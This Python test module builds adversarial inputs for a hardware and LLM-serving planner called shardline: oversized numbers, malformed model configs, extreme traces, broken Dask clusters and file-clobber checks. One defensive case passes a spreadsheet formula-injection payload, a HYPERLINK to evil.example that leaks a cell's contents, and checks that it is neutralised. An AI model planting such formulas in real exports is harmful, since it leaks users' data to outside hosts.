"""Group 8 of the hostile catalogue (bench_hostile.py): issue 28's "Reliability" list and issue 31's
second list, case by case, with their neighbours (other fields, other commands).

- tracebacks: a 400-digit integer in a chip, model, system or workload file; Hugging Face configs
  whose head dimensions (DeepSeek) or layer pattern (Gemma) are a string, list, table, NaN, inf,
  empty, fractional, boolean, zero or negative; a hop latency of 1e308;
- hangs: trace token counts of 1e15 and 1e300, `--in exp:1e9 --simulate`, 64 `--batches`,
  `--batches 1,1e9`, a Dask cluster with no worker or a worker without shardline, serve figures
  and simulations of a model file;
- clobbers: calibrate and validate beside a PREFIX.partial.csv they did not write;
- silent wrong answers, judged on the --json output: the event simulation of bursts and of one
  request, speculative decoding past the compute roofline, search --devices 97, training flags
  given to the serving search, a MoE of 1e12 experts, a Gemma pattern given as text;
- formula injection through `calibrate --name`, then `template`;
- the Python API with wrong values (`python -c`, an InputError printed as one `error:` line);
- huge but legal: the 200,000-layer workload answered in seconds (the limit is 250,000).

Fixtures (under WORK/in, and two Dask schedulers when `distributed` is installed) are written by
`make_third_fixtures`; cases by `third_catalogue`."""

from __future__ import annotations

import atexit
import contextlib
import importlib.util
import json
import math
import os
import re
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

from bench_hostile import ROOT, Case

HW = ["--hw", "h100-sxm"]
NUMERIC = "numeric"
MODELS = ROOT / "src" / "shardline" / "models" / "catalog"
CHIPS = ROOT / "src" / "shardline" / "hardware" / "catalog"
EXAMPLES = ROOT / "examples"
DIGITS = "9" * 400
SERVE = ["serve", *HW, "--devices", "8", "--tp", "8", "--rate", "5", "--in", "2000", "--out", "500"]
SERVING = [
    "search", "--model", "llama-3.2-1b", *HW, "--slo", "ttft=500ms,tpot=30ms", "--rate", "5/s",
    "--in", "2000", "--out", "500", "--json", "--quiet",
]  # fmt: skip
PLAN = ["plan", "--model", "llama-3.2-1b", *HW, "--devices", "8", "--json"]
TRACE_HEAD = "arrival_s,input_tokens,output_tokens\n"
DEEPSEEK = {
    "model_type": "deepseek_v3", "hidden_size": 1024, "intermediate_size": 4096,
    "moe_intermediate_size": 512, "n_routed_experts": 16, "num_experts_per_tok": 2,
    "n_shared_experts": 1, "first_k_dense_replace": 1, "q_lora_rank": 256, "kv_lora_rank": 128,
    "qk_rope_head_dim": 32, "qk_nope_head_dim": 64, "v_head_dim": 64, "num_attention_heads": 8,
    "num_key_value_heads": 8, "num_hidden_layers": 4, "vocab_size": 32000,
    "topk_method": "noaux_tc",
}  # fmt: skip
GEMMA = {
    "model_type": "gemma3_text", "hidden_size": 1024, "intermediate_size": 4096,
    "num_attention_heads": 8, "num_key_value_heads": 4, "head_dim": 128, "num_hidden_layers": 12,
    "vocab_size": 32000, "hidden_activation": "gelu_pytorch_tanh", "sliding_window": 512,
    "sliding_window_pattern": 6,
}  # fmt: skip
# JSON values that are not a positive whole number (json.dumps writes NaN and Infinity)
NOT_COUNTS = {
    "string": "64", "list": [64], "dict": {"value": 64}, "nan": math.nan, "inf": math.inf,
    "empty": "", "float": 64.5, "bool": True, "zero": 0, "negative": -64, "400_digits": 10**400,
}  # fmt: skip
HF_KEYS = {"qk_nope_head_dim": DEEPSEEK, "qk_rope_head_dim": DEEPSEEK}
HF_KEYS["sliding_window_pattern"] = GEMMA


def _swap(text: str, pattern: str, new: str) -> str:
    out, n = re.subn(pattern, new, text, count=1, flags=re.M)
    assert n == 1, pattern
    return out


def _chip(table_key: str, value: str) -> str:
    """The shipped H100 file (no aliases) with the `{ value = ... }` of one line replaced: the
    first line `key = { value = ...` under [table] (table_key "table.key")."""
    table, key = table_key.rsplit(".", 1)
    lines = [
        x
        for x in (CHIPS / "h100-sxm.toml").read_text(encoding="utf-8").splitlines()
        if not x.startswith("aliases")
    ]
    current, done = "", False
    for i, line in enumerate(lines):
        head = re.match(r"^\[([\w.]+)\]", line)
        current = head.group(1) if head else current
        if not done and current == table and re.match(rf"^{re.escape(key)}\s*=", line):
            lines[i] = re.sub(r"value = [^,}]+", f"value = {value}", line)
            done = True
    assert done, table_key
    return "\n".join(lines) + "\n"


def _data_files(d: Path) -> None:
    for field in ("peak_flops_per_s.bf16", "memory.capacity_bytes", "memory.bytes_per_s",
                  "interconnect.links_per_chip", "interconnect.link_bytes_per_s"):  # fmt: skip
        (d / f"chip_400d_{field}.toml").write_text(_chip(field, DIGITS), encoding="utf-8")
    for field in ("interconnect.hop_latency_s", "interconnect.scale_out.hop_latency_s"):
        (d / f"chip_1e308_{field}.toml").write_text(_chip(field, "1e308"), encoding="utf-8")
    llama = (MODELS / "llama-3.2-1b.toml").read_text(encoding="utf-8")
    for key in ("d_model", "layers", "vocab", "d_ff"):
        text = _swap(llama, rf"^{key} = \{{ value = [\d_]+", f"{key} = {{ value = {DIGITS}")
        (d / f"model_400d_{key}.toml").write_text(text, encoding="utf-8")
    (d / "model_400d_bare.toml").write_text(
        _swap(llama, r"^heads = .*$", f"heads = {DIGITS}"), encoding="utf-8"
    )
    oss = (MODELS / "gpt-oss-20b.toml").read_text(encoding="utf-8")
    for name, count in (("1e12", "1_000_000_000_000"), ("2e20", "2" + "0" * 20)):
        text = _swap(oss, r"^experts = \{ value = 32", f"experts = {{ value = {count}")
        (d / f"model_experts_{name}.toml").write_text(text, encoding="utf-8")
    # a model file that carries a zoo model's name (and other numbers), and one of its own name
    (d / "model_renamed_zoo.toml").write_text(
        _swap(llama, r"^layers = \{ value = 16", "layers = { value = 20"), encoding="utf-8"
    )
    (d / "model_mine.toml").write_text(
        _swap(llama, r'^name = ".*"$', 'name = "mine"'), encoding="utf-8"
    )
    cluster = (EXAMPLES / "my_cluster.toml").read_text(encoding="utf-8")
    for key, value in (("gpus_per_node", DIGITS), ("nics_per_node", DIGITS),
                       ("nics_per_node", "8.5"), ("nic_bytes_per_s", "0.5"),
                       ("domain_devices", DIGITS)):  # fmt: skip
        text = _swap(cluster, rf"^{key} = .*$", f"{key} = {value}")
        (d / f"system3_{key}_{value[:8]}.toml").write_text(text, encoding="utf-8")
    llama8 = (EXAMPLES / "llama-8b.toml").read_text(encoding="utf-8")
    for key in ("d_model", "batch", "layers"):
        text = _swap(llama8, rf"^{key} = \d+", f"{key} = {DIGITS}")
        (d / f"workload_400d_{key}.toml").write_text(text, encoding="utf-8")
    moe = llama8 + "\n[transformer.moe]\nexperts = 1_000_000_000_000\nexperts_per_token = 2\n"
    (d / "workload_experts_1e12.toml").write_text(moe, encoding="utf-8")


def _hf_configs(d: Path) -> None:
    for key, base in HF_KEYS.items():
        for name, value in NOT_COUNTS.items():
            path = d / f"hf3_{key}_{name}.json"
            path.write_text(json.dumps({**base, key: value}), encoding="utf-8")
    (d / "hf3_deepseek_ok.json").write_text(json.dumps(DEEPSEEK), encoding="utf-8")
    (d / "hf3_gemma_ok.json").write_text(json.dumps(GEMMA), encoding="utf-8")
    (d / "hf3_experts_1e12.json").write_text(
        json.dumps({**DEEPSEEK, "n_routed_experts": 10**12}), encoding="utf-8"
    )


def _traces(d: Path) -> None:
    for column, n in (("in", "1e15"), ("in", "1e300"), ("out", "1e15"), ("out", "1e300")):
        row = f"1,{n},10\n" if column == "in" else f"1,10,{n}\n"
        (d / f"trace3_{column}_{n}.csv").write_text(TRACE_HEAD + "0,10,10\n" + row)
    rows = "".join("0,100,100\n" for _ in range(100))  # zero gaps: all at once
    (d / "trace3_burst.csv").write_text(TRACE_HEAD + rows)
    rows = "".join(f"{i * 1e-13:.3e},100,100\n" for i in range(100))  # 1e13 requests/s
    (d / "trace3_1e13_per_s.csv").write_text(TRACE_HEAD + rows)


def _huge(d: Path) -> None:
    head = 'name = "many"\n[dims]\nM = 4096\nN = 4096\nK = 4096\n'
    layer = '[[layer]]\nname = "l{}"\neinsum = "x[M,N] * w[N,K] -> y[M,K]"\nweights = ["w"]\n'
    path = d / "stack3_200k.toml"
    if not path.exists():
        path.write_text(head + "".join(layer.format(i) for i in range(200_000)))


def _calibrated(work: Path) -> None:
    """A chip file of this machine (calibrate --quick, a few seconds) for validate's cases."""
    out = work / "in" / "host3.toml"
    env = {**os.environ, "PYTHONPATH": str(ROOT / "src")}
    subprocess.run(
        [sys.executable, "-m", "shardline", "calibrate", "--out", str(out), "--quick",
         "--no-progress"],
        env=env, check=True, capture_output=True, timeout=300,
    )  # fmt: skip


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


DASK: dict[str, str] = {}  # "empty" / "no_shardline" -> scheduler address
_PEERS: list[subprocess.Popen[bytes]] = []  # the schedulers and the worker, killed at exit


def _stop_peers() -> None:
    """Kill the Dask processes (their own process groups) when the catalogue exits: this module
    imports bench_hostile anew when that runs as __main__, so its _RUNNING is not the one the
    catalogue's own clean-up reads."""
    for proc in _PEERS:
        if proc.poll() is None:
            with contextlib.suppress(ProcessLookupError):
                os.killpg(proc.pid, signal.SIGKILL)
            proc.wait()


def _start_dask(work: Path) -> None:
    """Two local schedulers: one that no worker joins, one whose worker cannot import shardline
    (a `shardline` package that raises ImportError first on its path). Killed when the catalogue
    exits (_stop_peers)."""
    if importlib.util.find_spec("distributed") is None:
        return
    atexit.register(_stop_peers)
    fake = work / "noshardline" / "shardline"
    fake.mkdir(parents=True, exist_ok=True)
    (fake / "__init__.py").write_text('raise ImportError("No module named shardline")\n')
    code = (
        "import asyncio, sys\nfrom distributed import Scheduler\n"
        "async def main():\n"
        "    async with Scheduler(host='127.0.0.1', port=int(sys.argv[1]), dashboard=False):\n"
        "        await asyncio.sleep(1e6)\n"
        "asyncio.run(main())\n"
    )
    env = {k: v for k, v in os.environ.items() if k != "PYTHONPATH"}
    for name in ("empty", "no_shardline"):
        port = _free_port()
        proc = subprocess.Popen(
            [sys.executable, "-c", code, str(port)], env=env, start_new_session=True,
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        )  # fmt: skip
        _PEERS.append(proc)
        DASK[name] = f"tcp://127.0.0.1:{port}"
    worker = [sys.executable, "-m", "distributed.cli.dask_worker", DASK["no_shardline"]]
    proc = subprocess.Popen(
        [*worker, "--nworkers", "1", "--nthreads", "1", "--no-dashboard"],
        env={**env, "PYTHONPATH": str(work / "noshardline")}, start_new_session=True,
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )  # fmt: skip
    _PEERS.append(proc)
    time.sleep(8)  # the schedulers listen and the worker joins


def make_third_fixtures(work: Path, live: bool = True) -> None:
    """The files; with `live`, also this machine's chip file and the Dask clusters (seconds)."""
    d = work / "in"
    d.mkdir(parents=True, exist_ok=True)
    _data_files(d)
    _hf_configs(d)
    _traces(d)
    _huge(d)
    if live:
        _calibrated(work)
        _start_dask(work)


# --- the judges of answers (stdout of --json) ---------------------------------------------------


def _simulation_is_real(offered_per_s: float | None) -> Callable[[str], str]:
    """The simulation served tokens (> 0), as many per request as the requests carry, and no
    more than 10x the offered rate (None: a trace, judged on its own numbers)."""

    def judge(stdout: str) -> str:
        sim = json.loads(stdout).get("simulation") or {}
        tokens, requests = sim.get("throughput_tokens_per_s"), sim.get("requests_per_s")
        if not tokens or not requests or not tokens > 0:
            return f"simulation reports {tokens} tokens/s, {requests} requests/s"
        if offered_per_s is not None and requests > 10 * offered_per_s:
            return f"simulation serves {requests:.3g} requests/s of {offered_per_s} offered"
        if offered_per_s is None and not 0.5 <= tokens / requests / 100 <= 2:
            return f"{tokens:.3g} tokens/s over {requests:.3g} requests/s of 100 tokens"
        return ""

    return judge


def _under_compute_roofline(model: str, devices: int) -> Callable[[str], str]:
    """Output tokens/s at most devices x peak bf16 FLOP/s / (2 x active parameters): each token
    is at least one multiply-add per active weight."""

    def judge(stdout: str) -> str:
        sys.path.insert(0, str(ROOT / "src"))
        from shardline.hardware import resolve_chip
        from shardline.models import load_model
        from shardline.workload.modelspec import params_active

        peak = resolve_chip("h100-sxm").peak_flops_per_s["bf16"]
        bound = devices * peak / (2 * params_active(load_model(model)))
        got = json.loads(stdout)["throughput_tokens_per_s"]
        return "" if got <= bound else f"{got:.3g} output tokens/s > roofline {bound:.3g}"

    return judge


def _why_none_says(words: str) -> Callable[[str], str]:
    def judge(stdout: str) -> str:
        why = json.loads(stdout).get("why_none", "")
        return "" if words in why else f"why_none is {why!r}"

    return judge


def _file_kept(name: str, text: str, written: str | None = None) -> Callable[[Path], str]:
    """The file `name` (written before the case) still holds `text`; with `written`, the run's
    own rows went to that name instead. Removes what the case wrote."""

    def check(work: Path) -> str:
        path = work / name
        bad = (
            "" if path.exists() and path.read_text() == text else f"{name} was replaced or deleted"
        )
        if not bad and written is not None and not (work / written).exists():
            bad = f"{written} not written"
        for other in work.glob(name.split(".")[0] + "*"):
            if other.name != name:
                other.unlink()
        path.write_text(text)
        return bad

    return check


# --- the cases ---------------------------------------------------------------------------------


def _tracebacks() -> list[Case]:
    out = []
    for chip in sorted(p for p in FIXTURE_NAMES if p.startswith(("chip_400d", "chip_1e308"))):
        out.append(Case(f"matmul --hw {chip}", ["matmul", "4096", "4096", "4096", "--hw",
                        f"in/{chip}"], "error", NUMERIC, 8))  # fmt: skip
        out.append(Case(f"plan --hw {chip}", ["plan", "--model", "llama-3.2-1b", "--devices",
                        "8", "--hw", f"in/{chip}"], "error", NUMERIC, 8))  # fmt: skip
    # weights that leave no KV room (DeepSeek-V3 in bf16 on 8 B200): the text and the closed
    # loop divided by a zero capacity (found 2026-12-05)
    full = ["serve", "--model", "deepseek-v3", "--hw", "b200", "--devices", "8", "--tp", "8",
            "--ep", "8", "--attention-dp", "8", "--in", "1000", "--out", "1000"]  # fmt: skip
    for load in (["--rate", "1"], ["--concurrency", "256"], ["--rate", "1", "--simulate"]):
        out.append(Case(f"serve, no KV room, {' '.join(load)}", [*full, *load], "error",
                        NUMERIC, 8))  # fmt: skip
    hop = "in/chip_1e308_interconnect.hop_latency_s.toml"
    shard = ["shard", "8192", "8192", "8192", "--devices", "8", "--along", "k", "--hw", hop]
    out.append(Case("shard --hw chip hop latency 1e308", shard, "error", NUMERIC, 8))
    for model in sorted(p for p in FIXTURE_NAMES if p.startswith("model_400d")):
        out.append(Case(f"plan --model {model}", ["plan", "--model", f"in/{model}", *HW,
                        "--devices", "8"], "error", NUMERIC, 8))  # fmt: skip
        out.append(Case(f"serve --model {model}", [*SERVE, "--model", f"in/{model}"], "error",
                        NUMERIC, 8))  # fmt: skip
        out.append(Case(f"model show {model}", ["model", "show", f"in/{model}"], "error",
                        NUMERIC, 8))  # fmt: skip
    for system in sorted(p for p in FIXTURE_NAMES if p.startswith("system3_")):
        argv = ["plan", "--model", "llama-3.2-1b", "--system", f"in/{system}", "--devices", "16"]
        out.append(Case(f"plan --system {system}", argv, "error", NUMERIC, 8))
        out.append(Case(f"system show {system}", ["system", "show", f"in/{system}"], "error",
                        NUMERIC, 8))  # fmt: skip
    for workload in sorted(p for p in FIXTURE_NAMES if p.startswith("workload_400d")):
        out.append(Case(f"stack {workload}", ["stack", f"in/{workload}", *HW], "error",
                        NUMERIC, 8))  # fmt: skip
        out.append(Case(f"plan {workload}", ["plan", f"in/{workload}", *HW, "--devices", "8"],
                        "error", NUMERIC, 8))  # fmt: skip
    for key in HF_KEYS:
        for name in NOT_COUNTS:
            out.append(Case(f"model import {key} {name}", ["model", "import",
                            f"in/hf3_{key}_{name}.json"], "error", NUMERIC, 8))  # fmt: skip
    for name in ("deepseek_ok", "gemma_ok"):
        out.append(Case(f"model import {name}", ["model", "import", f"in/hf3_{name}.json"], "ok",
                        NUMERIC, 8))  # fmt: skip
    return out


def _hangs() -> list[Case]:
    out = [
        Case(f"serve --trace {n} tokens ({column})",
             [*SERVE, "--model", "llama-3.2-1b", "--trace", f"in/trace3_{column}_{n}.csv"],
             "error", NUMERIC, 8, limit_s=20)
        for column in ("in", "out") for n in ("1e15", "1e300")
    ]  # fmt: skip
    for flag, value in (("--in", "exp:1000000000"), ("--out", "exp:1000000000"),
                        ("--in", "1000000000")):  # fmt: skip
        argv = [*SERVE, "--model", "llama-3.2-1b", "--simulate"]
        argv = [*argv[: argv.index(flag) + 1], value, *argv[argv.index(flag) + 2 :]]
        out.append(Case(f"serve {flag} {value} --simulate", argv, "error", NUMERIC, 8))
    batches64 = ",".join(str(b) for b in range(1, 65))
    out += [
        Case("plan --batches of 64 entries", [*PLAN, "--batches", batches64], "error", NUMERIC,
             8, limit_s=10),
        Case("plan --batches 1,1e9 (geometric bisection)", [*PLAN, "--batches", "1,1e9"], "ok",
             NUMERIC, 8, limit_s=60),
    ]  # fmt: skip
    train = ["search", "--model", "llama-3.2-1b", "--tokens", "1T", "--devices", "64",
             "--json", "--quiet", "--executor", "dask", "--scheduler"]  # fmt: skip
    for name, address in DASK.items():
        out.append(Case(f"search dask, a cluster {name.replace('_', ' ')}", [*train, address],
                        "error", group=8, limit_s=60))  # fmt: skip
        out.append(Case(f"search serving dask, a cluster {name.replace('_', ' ')}",
                        [*SERVING, "--executor", "dask", "--scheduler", address], "error",
                        group=8, limit_s=60))  # fmt: skip
    for model in ("model_renamed_zoo.toml", "model_mine.toml"):
        for flags in (["--html", "out.html"], ["--simulate"], ["--plot", "out.svg"]):
            out.append(Case(f"serve --model {model} {flags[0]}",
                            [*SERVE, "--model", f"in/{model}", *flags], "ok", NUMERIC, 8,
                            limit_s=90))  # fmt: skip
    return out


def _clobbers() -> list[Case]:
    env = {"SHARDLINE_FAIL_AFTER": "3"}
    calibrate = ["calibrate", "--out", "cal3.toml", "--quick", "--no-progress", "--force"]
    validate = ["validate", "--hw", "in/host3.toml", "--quick", "--out", "val3", "--no-plot"]
    return [
        Case("calibrate beside a partial CSV it did not write", calibrate, "ok", group=8,
             limit_s=120, check=_file_kept("cal3.toml.partial.csv", "mine\n")),
        Case("calibrate failing beside a partial CSV it did not write", calibrate, "error",
             group=8, limit_s=120, env=env,
             check=_file_kept("cal3.toml.partial.csv", "mine\n", "cal3.toml.partial-2.csv")),
        Case("validate beside a partial CSV it did not write", validate, "ok", group=8,
             limit_s=120, check=_file_kept("val3.partial.csv", "mine\n")),
        Case("validate failing beside a partial CSV it did not write", validate, "error",
             group=8, limit_s=120, env={"SHARDLINE_FAIL_AFTER": "2"},
             check=_file_kept("val3.partial.csv", "mine\n", "val3.partial-2.csv")),
    ]  # fmt: skip


def _wrong_answers() -> list[Case]:
    zoo = [*SERVE, "--model", "llama-3.2-1b", "--json"]
    spec = ["serve", "--model", "llama-3.2-1b", *HW, "--devices", "8", "--tp", "1", "--rate",
            "1e5", "--in", "10", "--out", "5000", "--json", "--spec-decode"]  # fmt: skip
    return [
        Case("serve --trace of a burst (zero gaps)", [*zoo, "--trace", "in/trace3_burst.csv"],
             "ok", NUMERIC, 8, answer=_simulation_is_real(None)),
        Case("serve --trace at 1e13 requests/s", [*zoo, "--trace", "in/trace3_1e13_per_s.csv"],
             "ok", NUMERIC, 8, answer=_simulation_is_real(None)),
        Case("serve --requests 1 --simulate", [*zoo, "--requests", "1", "--simulate"], "ok",
             NUMERIC, 8, answer=_simulation_is_real(5.0)),
        Case("serve --requests 2 --simulate", [*zoo, "--requests", "2", "--simulate"], "ok",
             NUMERIC, 8, answer=_simulation_is_real(5.0)),
        Case("serve --spec-decode 1024,1.0 under the roofline", [*spec, "1024,1.0"], "ok",
             NUMERIC, 8, answer=_under_compute_roofline("llama-3.2-1b", 8)),
        Case("serve --spec-decode 64,0.9 under the roofline", [*spec, "64,0.9"], "ok",
             NUMERIC, 8, answer=_under_compute_roofline("llama-3.2-1b", 8)),
        Case("search --devices 97 (no layout exists)",
             ["search", "--model", "llama-3.2-1b", *HW, "--tokens", "1T", "--devices", "97",
              "--json", "--quiet"], "ok", NUMERIC, 8, limit_s=60,
             answer=_why_none_says("no layout exists")),
        *(Case(f"search serving {flag} (training only)", [*SERVING, flag, value], "error",
               NUMERIC, 8)
          for flag, value in (("--devices", "8"), ("--tokens", "1T"), ("--seq-len", "4096"),
                              ("--global-batch", "1Mi"), ("--scales", "4"), ("--fix", "tp=2"),
                              ("--rerank", "12"))),
        Case("plan --model MoE of 1e12 experts", ["plan", "--model",
             "in/model_experts_1e12.toml", *HW, "--devices", "8"], "error", NUMERIC, 8),
        Case("serve --model MoE of 2e20 experts", [*SERVE, "--model",
             "in/model_experts_2e20.toml"], "error", NUMERIC, 8),
        Case("model import MoE of 1e12 experts", ["model", "import", "in/hf3_experts_1e12.json"],
             "error", NUMERIC, 8),
        Case("stack [transformer.moe] of 1e12 experts", ["stack",
             "in/workload_experts_1e12.toml", *HW], "error", NUMERIC, 8),
        Case("plan --nic-bw 0.5 (fractional B/s)", [*PLAN, "--devices", "16", "--nic-bw", "0.5"],
             "error", NUMERIC, 8),
    ]  # fmt: skip


def _injection() -> list[Case]:
    link = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    from hostile_second import _xlsx_has_no_formula

    return [
        Case("calibrate --name =HYPERLINK, then template",
             ["calibrate", "--out", "out_link.toml", "--quick", "--no-progress", "--name", link],
             "ok", group=8, limit_s=120,
             then=["template", "out_link.xlsx", "--hw", "out_link.toml"],
             check=_xlsx_has_no_formula("out_link.xlsx", ("hyperlink",))),
    ]  # fmt: skip


API = """import sys
from shardline.errors import InputError
try:
    {imports}
    {call}
except InputError as exc:
    assert isinstance(exc, ValueError)
    print(f"error: {{exc}}", file=sys.stderr)
    sys.exit(2)
"""
API_CASES = {
    "matmul(precision='bf16')": (
        "from shardline import matmul",
        "matmul(4096, 4096, 4096, hw='h100-sxm', precision='bf16')",
    ),
    "ServeConfig(tp=0)": (
        "from shardline.serving.config import ServeConfig, parse_lengths as L",
        "ServeConfig(5.0, L('2000', '--in'), L('500', '--out'), devices=8, tp=0)",
    ),
    "ServeConfig(spec_k=10**9)": (
        "from shardline.serving.config import ServeConfig, parse_lengths as L",
        "ServeConfig(5.0, L('2000', '--in'), L('500', '--out'), devices=8, tp=8, spec_k=10**9)",
    ),
    "parse_slo(None)": ("from shardline.serving.slo import parse_slo", "parse_slo(None)"),
    "kv_bytes_at(spec, -1)": (
        "from shardline.models import load_model; "
        "from shardline.workload.modelspec import kv_bytes_at",
        "kv_bytes_at(load_model('llama-3.2-1b'), -1)",
    ),
}
for _name, _value in (
    ("input_tokens=0", "input_tokens=0, slo=slo"),
    ("slo=None", "input_tokens=2000, slo=None"),
):
    API_CASES[f"serving_search({_name})"] = (
        "from shardline.serving.search import serving_search; "
        "from shardline.serving.slo import parse_slo; slo = parse_slo('ttft=1s,tpot=50ms')",
        "serving_search('llama-3.2-1b', chips=['h100-sxm'], rate_per_s=5.0, "
        f"output_tokens=500, max_devices=8, {_value})",
    )


def _api() -> list[Case]:
    return [
        Case(
            f"API {name}",
            ["-c", API.format(imports=imports, call=call)],
            "error",
            NUMERIC,
            8,
            api=True,
        )
        for name, (imports, call) in API_CASES.items()
    ]


def _leftovers() -> list[Case]:
    """SIGKILL while other commands write (the sheet's are group 7's): the next write of the same
    output removes the temporary file the killed run left."""
    template = ["template", "out_kill.xlsx", *HW]
    serve = [*SERVE, "--model", "llama-3.2-1b", "--requests", "100", "--html", "out_kill.html"]
    return [
        Case(f"SIGKILL while {argv[0]} writes, then the same write again", argv, "ok", group=8,
             signal_after_s=0.0, after_tmp=True, sig=signal.SIGKILL, limit_s=120,
             then=[*argv, "--force"])
        for argv in (template, serve)
    ]  # fmt: skip


def _huge_legal() -> list[Case]:
    return [
        Case("stack of 200,000 layers in seconds", ["stack", "in/stack3_200k.toml", *HW],
             "ok", NUMERIC, 8, limit_s=60),
        Case("plan of 200,000 layers: fits on no plan",
             ["plan", "in/stack3_200k.toml", *HW, "--devices", "8"], "error", NUMERIC, 8,
             limit_s=60),
        Case("serve --requests 20000 --simulate (the limit) bounded",
             [*SERVE, "--model", "llama-3.2-1b", "--requests", "20000", "--simulate",
              "--rate", "200"], "any", NUMERIC, 8, limit_s=120),
    ]  # fmt: skip


FIXTURE_NAMES: list[str] = []  # the fixture files' names (set by third_catalogue)


def third_catalogue(work: Path) -> list[Case]:
    FIXTURE_NAMES[:] = sorted(p.name for p in (work / "in").iterdir())
    for name in ("cal3.toml.partial.csv", "val3.partial.csv"):
        (work / name).write_text("mine\n")
    out = [*_tracebacks(), *_hangs(), *_clobbers(), *_wrong_answers(), *_injection()]
    return out + [*_api(), *_leftovers(), *_huge_legal()]
